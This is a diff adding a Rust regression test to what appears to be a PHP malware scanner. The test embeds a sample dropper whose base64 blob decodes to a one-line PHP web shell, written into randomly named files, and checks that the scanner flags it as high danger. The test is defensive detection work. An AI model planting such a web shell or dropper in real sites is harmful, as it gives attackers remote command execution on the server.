@@ -1024,3 +1024,20 @@ fn what_each_parameter_is_called_or_included_as_follows_the_argument() {
                  echo do_cacheaction('key', $_SERVER['HTTP_HOST']);";
     assert!(sinks(hooks).is_empty());
 }
+
+#[test]
+fn an_encoded_blob_handed_to_a_function_that_writes_it_is_a_dropper() {
+    // Regression: a mass infector writes `base64_decode($fileData)` (a 160 KB literal) through
+    // its own `FileWrite($path, $data)` into random writable folders.
+    let blob = "PD9waHAgZXZhbCgkX1BPU1RbJ2MnXSk7Pz4".repeat(80);
+    let src = format!(
+        "<?php $fileData = '{blob}';\n\
+         function FileWrite($path, $data) {{ if ($fp = fopen($path, 'w')) {{ fwrite($fp, $data); fclose($fp); }} return $path; }}\n\
+         FileWrite($dir . '/ini_' . uniqid() . '.php', base64_decode($fileData));"
+    );
+    assert!(sinks(&src).contains(&(Why::UploadDropper, Danger::High)));
+    // Near-miss: the same helper writing the application's own text.
+    let own = "<?php function FileWrite($path, $data) { $fp = fopen($path, 'w'); fwrite($fp, $data); fclose($fp); }\n\
+               FileWrite(__DIR__ . '/cache/list.txt', implode(\"\\n\", $names));";
+    assert!(sinks(own).is_empty());
+}
